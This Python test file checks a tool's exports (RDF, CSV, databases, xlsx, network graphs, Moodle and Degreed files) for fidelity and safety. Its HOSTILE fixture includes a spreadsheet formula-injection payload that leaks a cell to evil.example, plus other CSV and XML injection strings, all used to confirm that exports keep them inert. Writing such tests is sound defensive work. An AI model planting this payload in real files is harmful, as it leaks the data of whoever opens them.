"""What is exported says what was concluded, opens in other tools, and harms nobody."""

import csv
import json
import re
import shutil
import subprocess
import sys
from collections.abc import Iterator
from decimal import Decimal
from importlib import import_module
from io import BytesIO
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import duckdb
import pytest
from click.testing import CliRunner, Result
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook
from random_engagement import write_engagement
from rdflib import OWL, PROV, RDF, RDFS, Graph, Literal, Namespace, URIRef

from cop_expert import pipeline
from cop_expert.cli import main
from cop_expert.cli.handing_over import FORM_NAMES
from cop_expert.explain.why import Explainer, How
from cop_expert.explain.words import Speaker
from cop_expert.export.degreed import HEADINGS
from cop_expert.export.forms import FORMS
from cop_expert.export.individuals import segment
from cop_expert.export.terms import literal
from cop_expert.load.words import guarded, tidy, unguarded
from cop_expert.model.arithmetic import to_decimal
from cop_expert.model.diagnostic import KnowledgeProblem
from cop_expert.model.proof import origins

EXAMPLES = Path(__file__).parent.parent / "kb" / "examples"
HOTEL = EXAMPLES / "grand-hotel"
COP = Namespace("https://cop-expert.org/ns#")
SAME_BYTES = sorted(set(FORMS) - {"duckdb", "degreed"})
"""DuckDB gives each file a number of its own; nobody in the hotel goes by a name."""
PEOPLE = """\
person,role,unit
a.miller,Chef,Hot station
b.jones,Chef,Hot station
c.smith,Server,Dining room
d.brown,Bookkeeper,Back office
"""
FORMULA = '=HYPERLINK("http://evil.example?x="&A1,"Kitchen")'
HOSTILE = [FORMULA, "'=1+1", "-2+3", "@SUM(A1)", "＝1+1", "</desc><x>&amp;", 'say "no" \\ \\u0041']
"""Names that would do harm, were they taken for more than names."""


def inferred(folder: Path, engine: str = "duckdb") -> pipeline.Run:
    return pipeline.infer(pipeline.read(folder), engine, "not kept")


def written(run: pipeline.Run, form: str, path: Path) -> Path:
    pipeline.export(run, form, path, path.parent / "engagement")
    return path


def run_command(*arguments: str | Path) -> Result:
    return CliRunner().invoke(main, [str(argument) for argument in arguments])


@pytest.fixture(scope="module")
def hotel() -> pipeline.Run:
    return inferred(HOTEL)


@pytest.fixture(scope="module")
def graph(hotel: pipeline.Run) -> Graph:
    return Graph().parse(data=pipeline.exported_text(hotel, "turtle"))


@pytest.fixture
def own_hotel(tmp_path: Path) -> Path:
    return shutil.copytree(HOTEL, tmp_path / "hotel", ignore=shutil.ignore_patterns(".cop"))


@pytest.fixture
def peopled(own_hotel: Path) -> pipeline.Run:
    (own_hotel / "tables" / "people.csv").write_text(PEOPLE, encoding="utf-8")
    return inferred(own_hotel)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> pipeline.Run:
    """An engagement whose units, roles, practices and items bear hostile names."""
    folder = tmp_path_factory.mktemp("hostile")
    named = [guarded(name) for name in HOSTILE]
    tables: dict[str, list[tuple[str, ...]]] = {
        "units": [("unit", "part of"), ("All", ""), *((name, "All") for name in named)],
        "roles": [("role", "unit"), *((name, name) for name in named)],
        "practices": [("practice",), *((name,) for name in named)],
        "role_practices": [("role", "practice"), *((name, name) for name in named)],
        "items": [("item", "hours"), *((name, "2") for name in named)],
        "item_practices": [("item", "practice"), *((name, name) for name in named)],
    }
    (folder / "tables").mkdir()
    for table, rows in tables.items():
        with (folder / "tables" / f"{table}.csv").open("w", encoding="utf-8", newline="") as file:
            csv.writer(file).writerows(rows)
    (folder / "engagement.toml").write_text("name = '<\"Evil\"> \\u0026 sons'\n", encoding="utf-8")
    return inferred(folder)


def rows_of(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file))


# All forms


def test_every_form_is_offered() -> None:
    assert list(FORM_NAMES) == list(FORMS)
    listed = run_command("export", "--forms").stdout
    assert [line.split()[0] for line in listed.splitlines()] == list(FORMS)


@pytest.mark.parametrize("form", SAME_BYTES)
def test_both_engines_export_the_same_bytes(form: str, hotel: pipeline.Run, tmp_path: Path) -> None:
    one = written(hotel, form, tmp_path / "one")
    other = written(inferred(HOTEL, "experta"), form, tmp_path / "other")
    assert contents(one) == contents(other)


def contents(path: Path) -> dict[str, bytes]:
    files = sorted(path.rglob("*")) if path.is_dir() else [path]
    return {
        file.relative_to(path).as_posix(): file.read_bytes() for file in files if file.is_file()
    }


@pytest.mark.parametrize("form", [form for form in FORMS if FORMS[form].is_text])
def test_a_text_goes_to_standard_output(form: str, own_hotel: Path, tmp_path: Path) -> None:
    (own_hotel / "tables" / "people.csv").write_text(PEOPLE, encoding="utf-8")
    shown = run_command("export", own_hotel, "--to", form)
    assert shown.exit_code == 0
    assert run_command("export", own_hotel, "--to", form, "-o", tmp_path / "x").exit_code == 0
    assert shown.stdout_bytes == (tmp_path / "x").read_bytes()


def test_a_workbook_is_not_thrown_at_the_terminal(own_hotel: Path) -> None:
    answer = run_command("export", own_hotel, "--to", "xlsx")
    assert answer.exit_code == 2
    assert "-o" in answer.stderr


def test_knowledge_with_problems_is_not_exported(own_hotel: Path, tmp_path: Path) -> None:
    (own_hotel / "tables" / "units.csv").write_text("unit\nKitchen\nKitchen\n", encoding="utf-8")
    answer = run_command("export", own_hotel, "--to", "csv", "-o", tmp_path / "out")
    assert answer.exit_code == 1
    assert "nothing was written" in answer.stderr
    assert not (tmp_path / "out").exists()


# RDF


def test_owlready2_opens_it(graph: Graph, hotel: pipeline.Run) -> None:
    world = import_module("owlready2").World()
    triples = BytesIO(graph.serialize(format="nt", encoding="utf-8"))
    world.get_ontology("urn:hotel#").load(fileobj=triples)
    (unit,) = (kind for kind in world.classes() if kind.name == "Unit")
    names = {label for individual in unit.instances() for label in individual.label}
    assert names == {row[0] for row in hotel.facts.rows("Unit")}


def test_every_term_is_declared(graph: Graph) -> None:
    """An undeclared one makes tools call the file not DL."""
    known = tuple(str(namespace) for namespace in (RDF, RDFS, OWL))
    kinds = (OWL.Class, OWL.ObjectProperty, OWL.DatatypeProperty, OWL.AnnotationProperty)
    declared = {term for kind in kinds for term in graph.subjects(RDF.type, kind)}
    used = {p for _, p, _ in graph} | {o for _, _, o in graph.triples((None, RDF.type, None))}
    assert {term for term in used if not str(term).startswith(known)} <= declared
    assert not list(graph.objects(None, OWL.imports))


def test_every_fact_is_there(graph: Graph, hotel: pipeline.Run) -> None:
    for template in hotel.facts.vocabulary.templates.values():
        there = set(graph.subjects(RDF.type, COP[template.name]))
        rows = hotel.facts.rows(template.name)
        key = template.itself and template.position(template.itself)
        things = {row[key] for row in rows} if isinstance(key, int) else rows
        assert len(there) == len(things), template.name
        if not template.given:
            assert all((fact, PROV.wasDerivedFrom, None) in graph for fact in there)


def test_sparql_says_from_what_an_assignment_was_derived(graph: Graph, hotel: pipeline.Run) -> None:
    """All places that its proof ends at are among those that the graph leads to."""
    found = graph.query(
        "PREFIX cop: <https://cop-expert.org/ns#> PREFIX prov: <http://www.w3.org/ns/prov#> "
        "PREFIX dct: <http://purl.org/dc/terms/> SELECT DISTINCT ?place WHERE { "
        '?assignment a cop:Assignment ; cop:item/rdfs:label "Knife skills" ; '
        'cop:community/rdfs:label "Kitchen" ; prov:wasDerivedFrom+/dct:source ?place }'
    )
    places = {str(place) for (place,) in found}  # type: ignore[misc]
    (row,) = hotel.facts.rows("Assignment", item="Knife skills", community="Kitchen")
    explainer = Explainer(hotel.facts, hotel.rulebook, Speaker(hotel.facts))
    proof = explainer.prove("Assignment", row, How(full=True))
    assert {str(origin) for origin in origins(proof)} <= places
    assert any(place.startswith("tables/needs.csv:") for place in places)


def test_reasons_end(graph: Graph) -> None:
    """No fact is derived from itself, at once or by way of others, recursions included."""
    premises = {
        fact: set(graph.objects(fact, PROV.wasDerivedFrom))
        for fact in graph.subjects(PROV.wasDerivedFrom, None)
    }
    while ready := [fact for fact, below in premises.items() if not below & premises.keys()]:
        for fact in ready:
            del premises[fact]
    assert not premises


def test_standards_say_it_too(graph: Graph) -> None:
    base = next(graph.subjects(RDF.type, OWL.Ontology))
    org, schema = Namespace("http://www.w3.org/ns/org#"), Namespace("https://schema.org/")
    kitchen, chef = URIRef(f"{base}#Unit/Kitchen"), URIRef(f"{base}#Post/Chef_%40_Hot_station")
    assert (kitchen, org.unitOf, URIRef(f"{base}#Unit/Grand_Hotel")) in graph
    assert (chef, org.role, URIRef(f"{base}#Role/Chef")) in graph
    assert (chef, org.postIn, URIRef(f"{base}#Unit/Hot_station")) in graph
    skills = URIRef(f"{base}#Item/Knife_skills")
    assert (skills, schema.teaches, URIRef(f"{base}#Practice/Knife_work")) in graph
    assert (skills, RDF.type, schema.LearningResource) in graph


def again(run: pipeline.Run, source: Path, folder: Path) -> pipeline.Run:
    """What a new engagement concludes that has the exported file as its knowledge."""
    written(run, "turtle", folder / "knowledge" / "exported.ttl")
    for path in ("engagement.toml", "rules", "knowledge"):
        if (source / path).is_dir():
            shutil.copytree(source / path, folder / path, dirs_exist_ok=True)
        elif (source / path).exists():
            shutil.copy(source / path, folder / path)
    return inferred(folder)


def assert_same(one: pipeline.Run, other: pipeline.Run) -> None:
    for template in one.facts.vocabulary.templates:
        assert one.facts.rows(template) == other.facts.rows(template), template


@pytest.mark.parametrize("example", ["grand-hotel", "northwater"])
def test_what_was_exported_concludes_the_same(example: str, tmp_path: Path) -> None:
    run = inferred(EXAMPLES / example)
    assert_same(run, again(run, EXAMPLES / example, tmp_path / "again"))


@pytest.mark.parametrize("seed", [3, 8, 20, 41])
def test_random_engagements_conclude_the_same_again(seed: int, tmp_path: Path) -> None:
    write_engagement(tmp_path / "first", seed)
    run = inferred(tmp_path / "first")
    other = again(run, tmp_path / "first", tmp_path / "again")
    assert_same(run, other)
    named = {name for unit in run.facts.rows("Unit") for name in unit if isinstance(name, str)}
    for name in named:
        assert run.facts.names.label(name) == other.facts.names.label(name)


def test_hostile_names_come_back_from_rdf(hostile: pipeline.Run, tmp_path: Path) -> None:
    assert_same(hostile, again(hostile, Path("nowhere"), tmp_path / "again"))


@given(st.text(), st.text())
def test_names_make_safe_iris_of_their_own(one: str, other: str) -> None:
    one, other = (text.encode("utf-8", "replace").decode() for text in (one, other))
    assert re.fullmatch(r"([A-Za-z0-9._~-]|%[0-9A-F]{2})*", segment(one))
    assert (segment(one) == segment(other)) == (one == other)
    assert len(segment(one * 100)) < 300


@given(st.text(st.characters(exclude_categories=["Cs"])))
def test_any_text_can_stand_in_turtle(text: str) -> None:
    graph = Graph().parse(data=f"<urn:x> <urn:p> {literal(text)} .", format="turtle")
    assert set(graph.objects()) == {Literal(text)}


# Tables


def test_csv_is_an_engagement_again(tmp_path: Path, hostile: pipeline.Run) -> None:
    for number, run in enumerate([inferred(HOTEL), hostile]):
        assert_same(run, inferred(written(run, "csv", tmp_path / str(number))))


def test_no_cell_of_a_csv_file_is_a_formula(tmp_path: Path, hostile: pipeline.Run) -> None:
    cells = [
        cell
        for path in written(hostile, "csv", tmp_path / "out").rglob("*.csv")
        for row in rows_of(path)
        for cell in row.values()
    ]
    assert guarded(FORMULA) in cells
    assert not [cell for cell in cells if cell[:1] in tuple("=+@＝")]


@given(st.text(alphabet="'=+-@ a1"))
def test_a_guarded_text_comes_back(text: str) -> None:
    text = tidy(text)
    assert tidy(guarded(text)) == text
    assert unguarded(guarded(text)) == text
    assert guarded(text)[:1] not in ("=", "+", "-", "@")


def test_infer_writes_over_its_own_tables(own_hotel: Path, tmp_path: Path) -> None:
    for _ in range(2):
        assert run_command("infer", own_hotel, "--out", tmp_path / "out").exit_code == 0
    assert len(rows_of(tmp_path / "out" / "Assignment.csv")) == 13


@pytest.mark.parametrize("form", ["parquet", "duckdb"])
def test_databases_hold_every_fact(
    form: str, tmp_path: Path, hotel: pipeline.Run, hostile: pipeline.Run
) -> None:
    for number, run in enumerate([hotel, hostile]):
        path = written(run, form, tmp_path / str(number))
        connection = duckdb.connect() if form == "parquet" else duckdb.connect(str(path))
        with connection:
            for template in run.facts.vocabulary.templates.values():
                if rows := run.facts.rows(template.name):
                    told = [tuple(map(plain, row)) for row in rows]
                    columns = ", ".join(f'"{name}"' for name in template.names)
                    table = f'"{template.name}"'
                    if form == "parquet":
                        table = f"read_parquet('{path / template.name}.parquet')"
                    assert connection.sql(f"SELECT {columns} FROM {table}").fetchall() == told


def plain(value: object) -> object:
    return Decimal(value).scaleb(-6) if type(value) is int else value


# The workbook


def test_the_matrix_says_what_goes_to_whom(hotel: pipeline.Run, tmp_path: Path) -> None:
    sheet = load_workbook(written(hotel, "xlsx", tmp_path / "hotel.xlsx"))["Matrix"]
    headings, *rows = sheet.iter_rows(values_only=True)
    found = {
        (row[0], community, level)
        for row in rows
        for community, level in zip(headings[3:], row[3:], strict=True)
        if level
    }
    records = hotel.facts.records("Assignment")
    assert found == {(r["item"], r["community"], r["level"]) for r in records}
    assert sheet.freeze_panes == "B2"
    assert sheet.auto_filter.ref == sheet.dimensions
    hours = {str(r["item"]): 0 for r in hotel.facts.records("Item")}
    for record in hotel.facts.records("AssignmentHours"):
        hours[str(record["item"])] += int(record["hours"] or 0)
    assert {row[0]: row[2] for row in rows} == {
        item: to_decimal(total) for item, total in hours.items()
    }


def test_a_sheet_for_each_topic_gives_reasons(hotel: pipeline.Run, tmp_path: Path) -> None:
    book = load_workbook(written(hotel, "xlsx", tmp_path / "hotel.xlsx"))
    for sheet in book:
        assert sheet.freeze_panes == "B2"
        assert sheet.auto_filter.ref
    reasons = [row[-1].value for row in book["Assignment"].iter_rows(min_row=2)]
    assert all(reasons)
    assert "25\xa0% of its people want it, fewer than" in " ".join(map(str, reasons))


def test_no_cell_of_a_workbook_is_a_formula(hostile: pipeline.Run, tmp_path: Path) -> None:
    book = load_workbook(written(hostile, "xlsx", tmp_path / "hostile.xlsx"))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert {cell.data_type for cell in cells} <= {"s", "n"}
    (formula,) = {cell.quotePrefix for cell in cells if cell.value == FORMULA}
    assert formula
    assert set(HOSTILE) <= {cell.value for cell in cells}


# Networks


@pytest.mark.parametrize("example", ["grand-hotel", "northwater"])
def test_both_networks_are_one(example: str, tmp_path: Path) -> None:
    run = inferred(EXAMPLES / example)
    kumu = json.loads(pipeline.exported_text(run, "kumu"))
    ids = [thing["id"] for things in kumu.values() for thing in things]
    assert len(ids) == len(set(ids))
    elements = {element["id"] for element in kumu["elements"]}
    assert {c[end] for c in kumu["connections"] for end in ("from", "to")} <= elements
    root = ElementTree.fromstring(pipeline.exported_text(run, "graphml"))
    space = "{http://graphml.graphdrawing.org/xmlns}"
    assert [node.get("id") for node in root.iter(f"{space}node")] == [
        element["id"] for element in kumu["elements"]
    ]
    assert [(e.get("source"), e.get("target")) for e in root.iter(f"{space}edge")] == [
        (c["from"], c["to"]) for c in kumu["connections"]
    ]
    keys = {key.get("id") for key in root.iter(f"{space}key")}
    assert {data.get("key") for data in root.iter(f"{space}data")} == keys
    members = {(str(r["post"]), str(r["community"])) for r in run.facts.records("Member")}
    linked = {(c["from"], c["to"]) for c in kumu["connections"] if c["type"] == "participation"}
    assert linked == {(f"post/{segment(p)}", f"community/{segment(c)}") for p, c in members}


def test_networks_hold_hostile_names(hostile: pipeline.Run) -> None:
    root = ElementTree.fromstring(pipeline.exported_text(hostile, "graphml"))
    labels = [data.text for data in root.iter("{http://graphml.graphdrawing.org/xmlns}data")]
    assert set(HOSTILE) <= set(labels)
    kumu = json.loads(pipeline.exported_text(hostile, "kumu"))
    assert set(HOSTILE) <= {element["label"] for element in kumu["elements"]}


# Systems that run courses


def takers(run: pipeline.Run) -> set[tuple[str, str]]:
    """Who takes what, from the facts: person and item."""
    people = rows_of_people()
    return {
        (person, str(r["item"]))
        for r in run.facts.records("Audience")
        for person, post in people
        if r["post"] == post
    }


def rows_of_people() -> list[tuple[str, str]]:
    lines = [line.split(",") for line in PEOPLE.splitlines()[1:]]
    return [(person, f"{role} @ {unit}") for person, role, unit in lines]


def test_moodle_enrols_those_who_take_it(peopled: pipeline.Run, tmp_path: Path) -> None:
    folder = written(peopled, "moodle", tmp_path / "moodle")
    cohorts = [row["idnumber"] for row in rows_of(folder / "cohorts.csv")]
    assert len(cohorts) == len(set(cohorts))
    enrolments = rows_of(folder / "enrolments.csv")
    assert {row["enrolment_1"] for row in enrolments} == {"cohort"}
    assert {row["enrolment_1_cohortidnumber"] for row in enrolments} <= set(cohorts)
    members = rows_of(folder / "members.csv")
    assert {
        (member["username"], row["idnumber"])
        for member in members
        for row in enrolments
        if row["enrolment_1_cohortidnumber"] in set(member.values())
    } == takers(peopled)


def test_moodle_needs_no_names(hotel: pipeline.Run, tmp_path: Path) -> None:
    folder = written(hotel, "moodle", tmp_path / "moodle")
    assert {path.name for path in folder.iterdir()} == {"cohorts.csv", "enrolments.csv"}


def test_degreed_assigns_to_those_who_take_it(peopled: pipeline.Run) -> None:
    rows = list(csv.DictReader(pipeline.exported_text(peopled, "degreed").splitlines()))
    assert {(row["UserID"], row["CourseID"]) for row in rows} == takers(peopled)
    assert list(rows[0]) == list(HEADINGS)


# Where it goes


def test_what_somebody_wrote_is_left_alone(own_hotel: Path, tmp_path: Path) -> None:
    target = tmp_path / "strategy.json"
    target.write_text("my notes", encoding="utf-8")
    arguments = ("export", own_hotel, "--to", "kumu", "-o", target)
    answer = run_command(*arguments)
    assert answer.exit_code == 1
    assert "error[not-ours]" in answer.stderr
    assert target.read_text(encoding="utf-8") == "my notes"
    assert run_command(*arguments, "--force").exit_code == 0
    assert json.loads(target.read_text(encoding="utf-8"))


@pytest.mark.parametrize("form", ["kumu", "moodle"])
def test_what_an_export_wrote_is_written_anew(form: str, own_hotel: Path, tmp_path: Path) -> None:
    target = tmp_path / "out"
    arguments = ("export", own_hotel, "--to", form, "-o", target)
    assert run_command(*arguments).exit_code == 0
    assert run_command(*arguments).exit_code == 0
    changed = target / "cohorts.csv" if target.is_dir() else target
    changed.write_text("mended by hand", encoding="utf-8")
    assert run_command(*arguments).exit_code == 1
    assert changed.read_text(encoding="utf-8") == "mended by hand"


def test_force_leaves_the_rest_of_a_folder_alone(own_hotel: Path, tmp_path: Path) -> None:
    (tmp_path / "out").mkdir()
    (tmp_path / "out" / "notes.txt").write_text("mine", encoding="utf-8")
    arguments = ("export", own_hotel, "--to", "moodle", "-o", tmp_path / "out")
    assert run_command(*arguments).exit_code == 1
    assert run_command(*arguments, "--force").exit_code == 0
    assert sorted(path.name for path in (tmp_path / "out").iterdir()) == [
        "cohorts.csv", "enrolments.csv", "notes.txt",
    ]  # fmt: skip


def test_a_folder_is_never_replaced_by_a_file(own_hotel: Path, tmp_path: Path) -> None:
    answer = run_command("export", own_hotel, "--to", "kumu", "-o", tmp_path, "--force")
    assert answer.exit_code == 1
    assert sorted(path.name for path in tmp_path.iterdir()) == ["hotel"]


@pytest.mark.parametrize("form", ["turtle", "xlsx", "moodle"])
def test_an_export_that_fails_leaves_nothing(
    form: str, hotel: pipeline.Run, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    target = written(hotel, form, tmp_path / "out")
    before = contents(target)

    def fail(*_: Any) -> Iterator[Any]:
        yield "something"
        raise OSError("the disk is full")

    module = import_module(f"cop_expert.export.{FORMS[form].module}")
    owner, name = {
        "turtle": (getattr(module, "Turtle", None), "rules"),
        "xlsx": (getattr(module, "_Book", None), "topic"),
        "moodle": (getattr(module, "_Moodle", None), "enrolments"),
    }[form]
    monkeypatch.setattr(owner, name, lambda *_: list(fail()))
    with pytest.raises(OSError, match="the disk is full"):
        written(hotel, form, target)
    assert contents(target) == before
    assert {path.name for path in tmp_path.iterdir()} <= {"out", "engagement"}


def test_no_module_is_loaded_that_the_form_does_not_need(own_hotel: Path) -> None:
    """Starting is quick, because the workbook's library is loaded for workbooks only."""
    program = (
        "import sys; from cop_expert.cli import main; "
        f"main(['export', {str(own_hotel)!r}, '--to', 'kumu'], standalone_mode=False); "
        "print({'xlsxwriter', 'rdflib'} & sys.modules.keys(), file=sys.stderr)"
    )
    done = subprocess.run(
        [sys.executable, "-c", program], capture_output=True, text=True, check=True
    )
    assert done.stderr.splitlines()[-1] == "set()"


def test_a_problem_is_raised_as_one(hotel: pipeline.Run, tmp_path: Path) -> None:
    with pytest.raises(KnowledgeProblem, match="no-people"):
        written(hotel, "degreed", tmp_path / "required.csv")
    assert not (tmp_path / "required.csv").exists()
